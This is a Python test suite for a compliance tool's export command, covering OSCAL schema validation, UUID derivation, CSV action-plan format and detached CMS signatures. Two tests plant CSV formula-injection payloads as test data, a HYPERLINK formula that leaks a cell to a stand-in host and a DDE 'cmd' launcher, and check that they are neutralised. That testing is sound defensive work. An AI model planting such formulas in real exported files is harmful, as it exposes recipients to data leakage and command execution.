#!/usr/bin/env python3
"""test_export.py: `reportgen export` as auditors and GRC tools use it.

What a user relies on:
- both OSCAL exports of every sample validate against NIST's OSCAL 1.0.6
  schemas and the 1.2.1 ones (xmllint --schema, offline, schemas in
  tests/export/oscal/), declaring either version;
- exporting twice gives the same bytes; the UUIDs are version 5 names that
  can be recomputed (Python's uuid.uuid5) from the documented keys;
- every UUID a document refers to resolves to one it defines, and the
  values OSCAL's Metaschema allows are the ones used (the schemas check
  neither);
- the assessment results hold a finding per applicable action with the
  report's status, an observation per open or late item and per evidence
  file, and back-matter hashes that are the bundle members' real SHA-256;
- the POA&M holds one poam-item per open or late item, in the report's
  action order, with its reason, evidence and deadline, and a risk (open,
  or closed when done late);
- the action plan has one row per open or late item, parses with Python's
  csv module, is UTF-8 without BOM with CRLF rows, and a cell a spreadsheet
  would run as a formula (an agency's secret id "=HYPERLINK(...)", an
  account "@SUM(...)", a reason text starting with "=") is neutralised;
- a signed export has FILE.sig that `openssl cms -verify` and `reportgen
  verify` accept, and neither accepts once FILE changes;
- bad input and usage (an unsigned report with --ca, a non-report, an
  unknown kind, an existing FILE without --force, a stale FILE.sig) exit 2
  and write nothing.

Usage: test_export.py --reportgen BIN --srcroot DIR --samples DIR
"""
import csv
import hashlib
import os
import re
import shutil
import subprocess
import sys
import tempfile
import unittest
import uuid
import xml.etree.ElementTree as ET
import zipfile

import rgtest
from rgtest import SDE, demo_key, pki, run, sha256

ARGS = None
R = "{urn:reportgen:report:1}"
O = "{http://csrc.nist.gov/ns/oscal/1.0}"
SAMPLES = ["compliant", "gaps", "late-remediation", "not-notified", "large"]
NS = uuid.uuid5(uuid.NAMESPACE_URL, "urn:reportgen:oscal:1")
OPEN = {"not_satisfied", "insufficient_evidence"}
LISTED = OPEN | {"satisfied_late"}


def schema(version, kind):
    name = "oscal_assessment-results_schema.xsd" if kind == "ar" else "oscal_poam_schema.xsd"
    return os.path.join(ARGS.srcroot, "tests", "export", "oscal", version, name)


def xmllint(path, xsd):
    p = subprocess.run(["xmllint", "--noout", "--nonet", "--schema", xsd, path],
                       capture_output=True, text=True)
    return p.returncode, p.stderr


class Base(unittest.TestCase):
    reports = {}  # sample -> report.xml, rendered once for the whole run
    tmp_all = None

    @classmethod
    def setUpClass(cls):
        if Base.tmp_all is None:
            Base.tmp_all = tempfile.mkdtemp(prefix="rg-export-all-")
            for s in SAMPLES:
                out = os.path.join(Base.tmp_all, s)
                rc, _, err = run("render", os.path.join(ARGS.samples, s + ".zip"), "-o", out,
                                 *demo_key())
                assert rc in (0, 1), err
                Base.reports[s] = os.path.join(out, "report.xml")

    def setUp(self):
        self.tmp = tempfile.mkdtemp(prefix="rg-export-")

    def tearDown(self):
        shutil.rmtree(self.tmp, ignore_errors=True)

    def path(self, *parts):
        return os.path.join(self.tmp, *parts)

    def export(self, kind, report, out, *extra, expect=0):
        rc, so, se = run("export", kind, report, "-o", out, *extra)
        self.assertEqual(rc, expect, so + se)
        return so, se

    def report_items(self, report):
        """(action element, item element) of every listed item, in order."""
        root = ET.parse(report).getroot()
        out = []
        for a in root.findall(R + "action"):
            for i in a.findall(R + "item"):
                if i.get("status") in LISTED:
                    out.append((a, i))
        return root, out


def uuids_and_refs(root):
    """Every UUID defined, and every reference, of an OSCAL document."""
    defined = []
    refs = []
    for el in root.iter():
        if "uuid" in el.attrib:
            defined.append(el.get("uuid"))
        for a in ("observation-uuid", "risk-uuid", "finding-uuid", "subject-uuid"):
            if a in el.attrib:
                refs.append((el.tag, el.get(a)))
        href = el.get("href")
        if href and href.startswith("#"):
            refs.append((el.tag, href[1:]))
        if el.tag in (O + "party-uuid", O + "member-of-organization"):
            refs.append((el.tag, el.text))
    return defined, refs


class Oscal(Base):
    def test_every_sample_validates_against_1_0_6_and_1_2_1(self):
        for s in SAMPLES:
            for kind in ("ar", "poam"):
                for declared in ("1.0.6", "1.2.1"):
                    out = self.path(f"{s}-{kind}-{declared}.xml")
                    self.export("oscal-" + kind, Base.reports[s], out, "--no-sign",
                                "--oscal-version", declared)
                    root = ET.parse(out).getroot()
                    self.assertEqual(root.find(f"{O}metadata/{O}oscal-version").text, declared)
                    for version in ("v1.0.6", "v1.2.1"):
                        rc, err = xmllint(out, schema(version, kind))
                        self.assertEqual(rc, 0, f"{s} {kind} declared {declared} vs {version}: "
                                                + err[-2000:])

    def test_exporting_twice_gives_the_same_bytes(self):
        for s in ("gaps", "large"):
            for kind in ("oscal-ar", "oscal-poam", "action-plan"):
                a, b = self.path("a"), self.path("b")
                self.export(kind, Base.reports[s], a, "--no-sign", "--force")
                # Another clock, another folder: the bytes are the report's.
                rc, _, err = run("export", kind, Base.reports[s], "-o", b, "--no-sign",
                                 env={"SOURCE_DATE_EPOCH": "1900000000"})
                self.assertEqual(rc, 0, err)
                self.assertEqual(sha256(a), sha256(b), f"{s} {kind}")
                os.unlink(b)

    def test_every_uuid_is_v5_unique_and_every_reference_resolves(self):
        pat = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
        for s in SAMPLES:
            for kind in ("ar", "poam"):
                out = self.path(f"{s}-{kind}.xml")
                self.export("oscal-" + kind, Base.reports[s], out, "--no-sign")
                defined, refs = uuids_and_refs(ET.parse(out).getroot())
                self.assertEqual(len(defined), len(set(defined)), f"{s} {kind}: duplicate uuid")
                for u in defined:
                    self.assertRegex(u, pat)
                dset = set(defined)
                self.assertTrue(refs, f"{s} {kind}: no references at all")
                for tag, r in refs:
                    self.assertIn(r, dset, f"{s} {kind}: {tag} refers to {r}, defined nowhere")

    def test_uuids_are_the_documented_names(self):
        """docs/exports.md: uuid5(ns, scope + 0x1f + tag + parts...)."""
        root = ET.parse(Base.reports["gaps"]).getroot()
        b = root.find(R + "bundle")
        dsha = root.find(R + "directive-definition").get("sha256")
        bundle_scope = "\x1f".join(["bundle", b.get("sha256"), dsha])
        agency_scope = "\x1f".join(["agency", b.get("agency"), root.get("directive")])
        ar, poam = self.path("ar.xml"), self.path("poam.xml")
        self.export("oscal-ar", Base.reports["gaps"], ar, "--no-sign")
        self.export("oscal-poam", Base.reports["gaps"], poam, "--no-sign")
        a, p = ET.parse(ar).getroot(), ET.parse(poam).getroot()
        u = lambda scope, *parts: str(uuid.uuid5(NS, "\x1f".join([scope, *parts])))
        self.assertEqual(a.get("uuid"), u(bundle_scope, "assessment-results"))
        self.assertEqual(p.get("uuid"), u(agency_scope, "plan-of-action-and-milestones"))
        self.assertEqual(a.find(O + "result").get("uuid"), u(bundle_scope, "result"))
        f = a.find(f"{O}result/{O}finding")
        self.assertEqual(f.get("uuid"), u(bundle_scope, "finding", "RA-1"))
        item = p.find(O + "poam-item")
        action = item.find(f"{O}prop[@name='action']").get("value")
        obs = p.find(O + "observation")
        sk = obs.find(f"{O}prop[@name='subject-kind']").get("value")
        sr = obs.find(f"{O}prop[@name='subject-ref']").get("value")
        self.assertEqual(obs.get("uuid"), u(bundle_scope, "observation", action, sk, sr, ""))
        self.assertEqual(item.get("uuid"), u(agency_scope, "poam-item", action, sk, sr, ""))
        # The same item has the same observation and risk in both documents.
        ar_obs = {o.get("uuid") for o in a.iter(O + "observation")}
        self.assertIn(obs.get("uuid"), ar_obs)

    def test_values_are_those_the_metaschema_allows(self):
        allowed = {
            "method": {"EXAMINE", "INTERVIEW", "TEST", "UNKNOWN"},
            "risk-status": {"open", "investigating", "remediating", "deviation-requested",
                            "deviation-approved", "closed"},
            "state": {"satisfied", "not-satisfied"},
            "reason": {"pass", "fail", "other"},
            "target": {"statement-id", "objective-id"},
            "hash": {"SHA-224", "SHA-256", "SHA-384", "SHA-512"},
        }
        for s in SAMPLES:
            for kind in ("ar", "poam"):
                out = self.path(f"{s}-{kind}.xml")
                self.export("oscal-" + kind, Base.reports[s], out, "--no-sign", "--force")
                root = ET.parse(out).getroot()
                for m in root.iter(O + "method"):
                    self.assertIn(m.text, allowed["method"])
                for r in root.iter(O + "risk"):
                    self.assertIn(r.find(O + "status").text, allowed["risk-status"])
                for t in root.iter(O + "target"):
                    self.assertIn(t.get("type"), allowed["target"])
                    st = t.find(O + "status")
                    self.assertIn(st.get("state"), allowed["state"])
                    self.assertIn(st.get("reason"), allowed["reason"])
                for h in root.iter(O + "hash"):
                    self.assertIn(h.get("algorithm"), allowed["hash"])
                for prop in root.iter(O + "prop"):
                    self.assertEqual(prop.get("ns"), "urn:reportgen:report:1")

    def test_assessment_results_follow_the_report(self):
        for s in SAMPLES:
            report = Base.reports[s]
            rroot, listed = self.report_items(report)
            out = self.path(f"{s}.xml")
            self.export("oscal-ar", report, out, "--no-sign")
            root = ET.parse(out).getroot()
            res = root.find(O + "result")
            actions = rroot.findall(R + "action")
            applicable = [a for a in actions if a.get("status") != "not_applicable"]
            findings = res.findall(O + "finding")
            self.assertEqual(len(findings), len(applicable), s)
            for a, f in zip(applicable, findings):
                self.assertTrue(f.find(O + "title").text.startswith(a.get("id") + " "))
                st = f.find(f"{O}target/{O}status")
                ok = a.get("status") in ("satisfied", "satisfied_late")
                self.assertEqual(st.get("state"), "satisfied" if ok else "not-satisfied")
                self.assertEqual(f.find(f"{O}prop[@name='status']").get("value"), a.get("status"))
            # reviewed-controls lists every action of the directive.
            ids = [c.get("control-id") for c in res.iter(O + "include-control")]
            self.assertEqual(len(ids), len(actions), s)
            files = rroot.findall(f"{R}evidence-files/{R}file")
            obs = res.findall(O + "observation")
            self.assertEqual(len(obs), len(listed) + len(files), s)
            # import-ap points at the directive definition in back-matter.
            ap = root.find(O + "import-ap").get("href")[1:]
            res_by_uuid = {r.get("uuid"): r for r in root.iter(O + "resource")}
            self.assertIn("directive definition", res_by_uuid[ap].find(O + "title").text)
            self.assertEqual(res_by_uuid[ap].find(f"{O}rlink/{O}hash").text,
                             rroot.find(R + "directive-definition").get("sha256"))

    def test_back_matter_hashes_are_the_bundle_members_digests(self):
        out = self.path("gaps.xml")
        self.export("oscal-ar", Base.reports["gaps"], out, "--no-sign")
        root = ET.parse(out).getroot()
        hashes = {}
        for r in root.iter(O + "resource"):
            rl = r.find(O + "rlink")
            hashes[rl.get("href")] = rl.find(O + "hash").text
        zpath = os.path.join(ARGS.samples, "gaps.zip")
        with zipfile.ZipFile(zpath) as z:
            for name in z.namelist():
                if name.endswith("/"):
                    continue
                self.assertEqual(hashes[name], hashlib.sha256(z.read(name)).hexdigest(), name)
        self.assertEqual(hashes["gaps.zip"], sha256(zpath))
        self.assertEqual(hashes["report.xml"], sha256(Base.reports["gaps"]))
        # Each item observation points at the files it cites, line by line.
        by_uuid = {r.get("uuid"): r.find(O + "title").text for r in root.iter(O + "resource")}
        for o in root.iter(O + "observation"):
            ev = o.find(f"{O}prop[@name='evidence']")
            if ev is None:
                continue
            cited = [c.split(":")[0] for c in ev.get("value").split()]
            pointed = [by_uuid[r.get("href")[1:]] for r in o.findall(O + "relevant-evidence")]
            self.assertEqual(pointed, cited)

    def test_poam_has_one_item_per_open_or_late_item(self):
        for s in SAMPLES:
            report = Base.reports[s]
            _, listed = self.report_items(report)
            out = self.path(f"{s}.xml")
            self.export("oscal-poam", report, out, "--no-sign")
            root = ET.parse(out).getroot()
            items = root.findall(O + "poam-item")
            risks = {r.get("uuid"): r for r in root.findall(O + "risk")}
            if not listed:
                self.assertEqual(len(items), 1, s)
                self.assertEqual(items[0].find(f"{O}prop[@name='no-open-items']").get("value"),
                                 "true")
                continue
            self.assertEqual(len(items), len(listed), s)
            for (a, i), p in zip(listed, items):
                prop = lambda n: p.find(f"{O}prop[@name='{n}']").get("value")
                self.assertEqual(prop("action"), a.get("id"))
                self.assertEqual(prop("status"), i.get("status"))
                self.assertEqual(p.find(f"{O}description/{O}p").text, i.text)
                self.assertEqual(prop("evidence"), i.get("evidence-all"))
                due = i.get("due") or a.get("deadline")
                if due:
                    self.assertEqual(prop("deadline"), due)
                risk = risks[p.find(O + "associated-risk").get("risk-uuid")]
                self.assertEqual(risk.find(O + "status").text,
                                 "open" if i.get("status") in OPEN else "closed")
                if due:
                    self.assertIsNotNone(risk.find(O + "deadline"))

    def test_times_are_the_reports_never_the_clock(self):
        out = self.path("ar.xml")
        self.export("oscal-ar", Base.reports["gaps"], out, "--no-sign")
        root = ET.parse(out).getroot()
        gen = ET.parse(Base.reports["gaps"]).getroot().get("generated")
        self.assertEqual(root.find(f"{O}metadata/{O}last-modified").text, gen)
        self.assertEqual(root.find(f"{O}metadata/{O}published").text, gen)


def edit_bundle(srcroot, tmp, edits):
    """A copy of samples/gaps with edits (file -> function on its text), packed."""
    d = os.path.join(tmp, "bundle")
    shutil.copytree(os.path.join(srcroot, "samples", "gaps"), d)
    for name, fn in edits.items():
        p = os.path.join(d, name)
        with open(p, encoding="utf-8", newline="") as f:
            text = f.read()
        with open(p, "w", encoding="utf-8", newline="") as f:
            f.write(fn(text))
    zpath = os.path.join(tmp, "bundle.zip")
    rc, so, se = run("pack", d, "-o", zpath)
    assert rc == 0, so + se
    return zpath


class ActionPlan(Base):
    def rows(self, path):
        with open(path, "rb") as f:
            raw = f.read()
        self.assertFalse(raw.startswith(b"\xef\xbb\xbf"), "BOM")
        raw.decode("utf-8")
        body = raw.split(b"\r\n")
        self.assertEqual(body[-1], b"", "ends with CRLF")
        self.assertNotIn(b"\n", b"".join(body), "every row ends with CRLF, no bare LF")
        with open(path, newline="", encoding="utf-8") as f:
            return list(csv.reader(f))

    def test_gaps_has_one_row_per_open_or_late_item(self):
        out = self.path("plan.csv")
        self.export("action-plan", Base.reports["gaps"], out, "--no-sign")
        rows = self.rows(out)
        self.assertEqual(rows[0], ["Action", "Action title", "Item kind", "Item", "Status",
                                   "Deadline", "Late by", "Reason", "Evidence", "Owner",
                                   "Planned completion date", "Justification"])
        _, listed = self.report_items(Base.reports["gaps"])
        self.assertGreater(len(listed), 10)
        self.assertEqual(len(rows) - 1, len(listed))
        for (a, i), row in zip(listed, rows[1:]):
            self.assertEqual(len(row), 12)
            self.assertEqual(row[0], a.get("id"))
            self.assertEqual(row[2], i.get("subject-kind"))
            self.assertEqual(row[3], i.get("subject-ref"))
            self.assertEqual(row[4], i.get("status"))
            self.assertEqual(row[5], i.get("due") or a.get("deadline") or "")
            self.assertEqual(row[6], i.get("late-by") or "")
            self.assertEqual(row[7], i.text)
            self.assertEqual(row[8], i.get("evidence-all"))
            self.assertEqual(row[9:], ["", "", ""])
            for cell in row:
                self.assertNotRegex(cell, r"<[a-zA-Z/]", "markup in a cell")

    def test_compliant_has_only_the_header(self):
        out = self.path("plan.csv")
        self.export("action-plan", Base.reports["compliant"], out, "--no-sign")
        self.assertEqual(len(self.rows(out)), 1)

    def test_formula_cells_from_the_bundle_are_neutralised(self):
        evil_id = '=HYPERLINK("http://x.example/?"&A1)'
        evil_acct = "@SUM(1+1)"
        q = '"' + evil_id.replace('"', '""') + '"'
        zpath = edit_bundle(ARGS.srcroot, self.tmp, {
            "secrets.csv": lambda t: t.replace("AHG-SEC-203,", q + ",", 1)
                                      .replace("sp:AHG-Award-Portal", evil_acct),
            "log-reviews.csv": lambda t: t.replace("sp:AHG-Award-Portal", evil_acct),
        })
        rc, so, se = run("render", zpath, "-o", self.path("r"), "--no-sign")
        self.assertEqual(rc, 1, so + se)
        out = self.path("plan.csv")
        self.export("action-plan", self.path("r", "report.xml"), out, "--no-sign")
        items = [r[3] for r in self.rows(out)[1:]]
        self.assertIn("'" + evil_id, items)
        self.assertIn("'" + evil_acct, items)
        for row in self.rows(out):
            for cell in row:
                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)
        # The OSCAL documents carry the identifiers as they are (XML is data).
        ar = self.path("ar.xml")
        self.export("oscal-ar", self.path("r", "report.xml"), ar, "--no-sign")
        refs = [p.get("value") for p in ET.parse(ar).getroot().iter(O + "prop")
                if p.get("name") == "subject-ref"]
        self.assertIn(evil_id, refs)
        self.assertEqual(xmllint(ar, schema("v1.0.6", "ar"))[0], 0)

    def test_a_reason_starting_with_equals_is_neutralised(self):
        # report.xml is data: a reason text is whatever the report says.
        rc, _, err = run("render", os.path.join(ARGS.samples, "gaps.zip"), "-o", self.path("r"),
                         "--no-sign")
        self.assertEqual(rc, 1, err)
        p = self.path("r", "report.xml")
        with open(p, encoding="utf-8") as f:
            text = f.read()
        text, n = re.subn(r'(status="not_satisfied"[^>]*>)secret AHG-SEC-203',
                          r"\1=cmd|' /C calc'!A0 AHG-SEC-203", text, count=1)
        self.assertEqual(n, 1)
        with open(p, "w", encoding="utf-8") as f:
            f.write(text)
        out = self.path("plan.csv")
        self.export("action-plan", p, out, "--no-sign")
        reasons = [r[7] for r in self.rows(out)[1:]]
        self.assertTrue(any(r.startswith("'=cmd|") for r in reasons), reasons)


class Signing(Base):
    def signed(self, kind="oscal-ar"):
        out = self.path("ar.xml")
        so, _ = self.export(kind, Base.reports["gaps"], out, *demo_key())
        self.assertIn("signed", so)
        self.assertTrue(os.path.exists(out + ".sig"))
        return out

    def openssl_verify(self, out, sig=None, inform="DER"):
        p = subprocess.run(["openssl", "cms", "-verify", "-binary", "-inform", inform,
                            "-in", sig or out + ".sig", "-content", out, "-CAfile",
                            pki("root.pem"), "-out", os.devnull], capture_output=True,
                           text=True)
        return p.returncode, p.stderr

    def test_openssl_and_reportgen_accept_the_detached_signature(self):
        for kind in ("oscal-ar", "oscal-poam", "action-plan"):
            out = self.signed(kind)
            rc, err = self.openssl_verify(out)
            self.assertEqual(rc, 0, err)
            rc, so, se = run("verify", out + ".sig", "--ca", pki("root.pem"))
            self.assertEqual(rc, 0, so + se)
            self.assertIn("valid", so)
            self.assertIn("reportgen DEMO Report Signer", so)
            self.assertIn("signed at:   2024-05-02T10:00:00Z", so)
            os.unlink(out)
            os.unlink(out + ".sig")

    def test_a_changed_export_fails_both(self):
        out = self.signed()
        with open(out, "r+b") as f:
            f.seek(400)
            b = f.read(1)
            f.seek(400)
            f.write(bytes([b[0] ^ 0x01]))
        self.assertNotEqual(self.openssl_verify(out)[0], 0)
        rc, so, _ = run("verify", out + ".sig", "--ca", pki("root.pem"))
        self.assertEqual(rc, 1, so)
        self.assertIn("INVALID", so)

    def test_content_option_pem_and_untrusted(self):
        out = self.signed()
        other = self.path("copy.xml")
        shutil.copy(out, other)
        pem = self.path("sig.pem")
        subprocess.run(["openssl", "cms", "-cmsout", "-inform", "DER", "-in", out + ".sig",
                        "-outform", "PEM", "-out", pem], check=True)
        rc, so, se = run("verify", pem, "--content", other, "--ca", pki("root.pem"))
        self.assertEqual(rc, 0, so + se)
        self.assertEqual(self.openssl_verify(other, pem, "PEM")[0], 0)
        # Trusted only by the anchors the signer chains to.
        other = self.path("other-ca.pem")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout",
                        self.path("other.key"), "-out", other, "-days", "2", "-subj",
                        "/CN=another CA"], check=True, capture_output=True)
        rc, so, _ = run("verify", out + ".sig", "--ca", other)
        self.assertEqual(rc, 1, so)
        self.assertIn("NOT TRUSTED", so)
        # Without anchors: intact, but no signer is trusted (verify fails closed).
        rc, so, _ = run("verify", out + ".sig", env={"REPORTGEN_CA": ""})
        self.assertEqual(rc, 1, so)
        self.assertIn("NOT TRUSTED", so)
        self.assertIn("covers:      the whole file", so)

    def test_missing_content_or_garbage_signature(self):
        out = self.signed()
        os.rename(out, out + ".moved")
        rc, so, se = run("verify", out + ".sig", "--ca", pki("root.pem"))
        self.assertEqual(rc, 3, so + se)
        self.assertRegex(se, "cannot (be )?read")
        os.rename(out + ".moved", out)
        with open(out + ".sig", "wb") as f:
            f.write(b"not a signature")
        rc, so, _ = run("verify", out + ".sig", "--ca", pki("root.pem"))
        self.assertEqual(rc, 1, so)
        self.assertIn("not a CMS signature", so)

    def test_verify_of_the_export_itself_says_not_signed(self):
        out = self.signed()
        rc, so, _ = run("verify", out, "--ca", pki("root.pem"))
        self.assertEqual(rc, 1, so)
        self.assertIn("NOT SIGNED", so)


class Refusals(Base):
    def assert_nothing(self, *names):
        for n in names:
            self.assertFalse(os.path.exists(self.path(n)), n)
        leftovers = [f for f in os.listdir(self.tmp) if f.startswith(".")]
        self.assertEqual(leftovers, [])

    def test_ca_refuses_an_unsigned_report(self):
        rc, _, err = run("render", os.path.join(ARGS.samples, "gaps.zip"), "-o", self.path("r"),
                         "--no-sign")
        rc, so, se = run("export", "oscal-ar", self.path("r", "report.xml"), "-o",
                         self.path("ar.xml"), "--no-sign", "--ca", pki("root.pem"))
        self.assertEqual(rc, 2, so + se)
        self.assertIn("signature does not check out", se)
        self.assert_nothing("ar.xml")
        # The signed one passes.
        self.export("oscal-ar", Base.reports["gaps"], self.path("ar.xml"), "--no-sign",
                    "--ca", pki("root.pem"))

    def test_a_non_report_is_bad_input(self):
        bad = self.path("bad.xml")
        with open(bad, "w") as f:
            f.write("<compliance-report xmlns='urn:reportgen:report:1' format='2'/>")
        rc, so, se = run("export", "oscal-poam", bad, "-o", self.path("p.xml"), "--no-sign")
        self.assertEqual(rc, 2, so + se)
        self.assertIn("bad.xml", se)
        self.assert_nothing("p.xml")
        rc, so, se = run("export", "oscal-poam", self.path("missing.xml"), "-o",
                         self.path("p.xml"), "--no-sign")
        self.assertEqual(rc, 3, so + se)

    def test_usage_errors(self):
        r = Base.reports["gaps"]
        for args in (["export"], ["export", "oscal-xx", r, "-o", self.path("x")],
                     ["export", "oscal-ar", r, "--no-sign"],
                     ["export", "oscal-ar", r, "-o", self.path("x")],
                     ["export", "oscal-ar", r, "-o", self.path("x"), "--no-sign", "--key", "k"],
                     ["export", "oscal-ar", r, "-o", self.path("x"), "--no-sign",
                      "--oscal-version", "1.1.2"],
                     ["export", "oscal-ar", r, r, "-o", self.path("x"), "--no-sign"]):
            rc, so, se = run(*args)
            self.assertEqual(rc, 2, f"{args}: {so}{se}")
        self.assert_nothing("x")

    def test_existing_file_is_kept_without_force(self):
        out = self.path("ar.xml")
        with open(out, "w") as f:
            f.write("mine")
        rc, so, se = run("export", "oscal-ar", Base.reports["gaps"], "-o", out, *demo_key())
        self.assertEqual(rc, 2, so + se)
        with open(out) as f:
            self.assertEqual(f.read(), "mine")
        self.assertFalse(os.path.exists(out + ".sig"))
        self.export("oscal-ar", Base.reports["gaps"], out, *demo_key(), "--force")
        self.assertEqual(xmllint(out, schema("v1.0.6", "ar"))[0], 0)

    def test_unsigned_over_signed_needs_force_and_removes_the_old_signature(self):
        out = self.path("ar.xml")
        self.export("oscal-ar", Base.reports["gaps"], out, *demo_key())
        rc, so, se = run("export", "oscal-poam", Base.reports["gaps"], "-o", out, "--no-sign")
        self.assertEqual(rc, 2, so + se)
        self.assertTrue(os.path.exists(out + ".sig"))
        self.export("oscal-poam", Base.reports["gaps"], out, "--no-sign", "--force")
        self.assertFalse(os.path.exists(out + ".sig"))
        self.assertEqual(ET.parse(out).getroot().tag, O + "plan-of-action-and-milestones")

    def test_export_into_a_new_folder_and_the_current_one(self):
        self.export("action-plan", Base.reports["gaps"], self.path("new", "sub", "plan.csv"),
                    "--no-sign")
        self.assertTrue(os.path.exists(self.path("new", "sub", "plan.csv")))
        os.mkdir(self.path("empty"))
        e = dict(os.environ, SOURCE_DATE_EPOCH=SDE)
        p = subprocess.run([ARGS.reportgen, "export", "action-plan", Base.reports["gaps"], "-o",
                            "plan.csv", "--no-sign"], cwd=self.path("empty"),
                           capture_output=True, text=True, env=e)
        self.assertEqual(p.returncode, 0, p.stdout + p.stderr)
        self.assertEqual(os.listdir(self.path("empty")), ["plan.csv"])


# Reports a reader accepts that OSCAL makes hard (also the fuzz seeds of
# tests/fuzz/corpus/export).
def odd_offsets(t):
    return t.replace("-04:00", "-04:30")


def old_year(t):
    return re.sub(r'(<bundle [^>]*created=")2024', r"\g<1>1850", t, count=1)


def duplicate_subject(t):
    """The first late item again, the counts raised to match."""
    m = re.search(r'\n(    <item status="satisfied_late"[^\n]*)', t)
    t = t[:m.end()] + "\n" + m.group(1) + t[m.end():]
    aid = re.findall(r'<action id="([^"]+)"', t[:m.start()])[-1]
    for attr in ("items", "late"):
        t = re.sub(rf'(<action id="{aid}"[^>]*\b{attr}=")(\d+)',
                   lambda x: x.group(1) + str(int(x.group(2)) + 1), t, count=1)
    return re.sub(r'(items-late=")(\d+)', lambda x: x.group(1) + str(int(x.group(2)) + 1), t,
                  count=1)


def duplicate_action(t):
    """Two actions whose ids differ only in case: one OSCAL control."""
    ids = re.findall(r'<action id="([^"]+)"', t)
    return t.replace(f'<action id="{ids[1]}"', f'<action id="{ids[0].lower()}"', 1)


class Hostile(Base):
    def edited(self, fn, sample="late-remediation"):
        rc, _, err = run("render", os.path.join(ARGS.samples, sample + ".zip"), "-o",
                         self.path("r"), "--no-sign")
        self.assertIn(rc, (0, 1), err)
        p = self.path("r", "report.xml")
        with open(p, encoding="utf-8") as f:
            text = f.read()
        with open(p, "w", encoding="utf-8") as f:
            f.write(fn(text))
        return p

    def test_offsets_outside_the_schemas_list_are_written_in_utc(self):
        p = self.edited(odd_offsets)
        for kind in ("ar", "poam"):
            out = self.path(kind + ".xml")
            self.export("oscal-" + kind, p, out, "--no-sign")
            self.assertEqual(xmllint(out, schema("v1.0.6", kind))[0], 0)
            self.assertEqual(xmllint(out, schema("v1.2.1", kind))[0], 0)
            with open(out, encoding="utf-8") as f:
                text = f.read()
            self.assertNotRegex(text, r">[0-9T:-]+-04:30<")

    def test_a_time_oscal_cannot_hold_is_refused_once(self):
        p = self.edited(old_year)
        rc, so, se = run("export", "oscal-ar", p, "-o", self.path("ar.xml"), "--no-sign")
        self.assertEqual(rc, 2, so + se)
        self.assertEqual(se.count("outside the years 1900 to 2999"), 1, se)
        self.assertFalse(os.path.exists(self.path("ar.xml")))

    def test_a_repeated_subject_gets_its_own_uuids(self):
        p = self.edited(duplicate_subject)
        for kind in ("ar", "poam"):
            out = self.path(kind + ".xml")
            self.export("oscal-" + kind, p, out, "--no-sign")
            self.assertEqual(xmllint(out, schema("v1.0.6", kind))[0], 0)
            defined, refs = uuids_and_refs(ET.parse(out).getroot())
            self.assertEqual(len(defined), len(set(defined)))
            self.assertTrue(set(r for _, r in refs) <= set(defined))
        self.assertEqual(len(ET.parse(self.path("poam.xml")).getroot().findall(O + "poam-item")),
                         len(self.report_items(p)[1]))

    def test_two_actions_that_would_be_one_control_are_refused(self):
        p = self.edited(duplicate_action)
        rc, so, se = run("export", "oscal-ar", p, "-o", self.path("ar.xml"), "--no-sign")
        self.assertEqual(rc, 2, so + se)
        self.assertIn("two actions would both be OSCAL control", se)
        # The action plan has no controls: it is written.
        self.export("action-plan", p, self.path("plan.csv"), "--no-sign")


def main():
    global ARGS
    ARGS, rest = rgtest.parse_args()
    try:
        unittest.main(argv=[sys.argv[0]] + rest, verbosity=2)
    finally:
        if Base.tmp_all:
            shutil.rmtree(Base.tmp_all, ignore_errors=True)


if __name__ == "__main__":
    main()
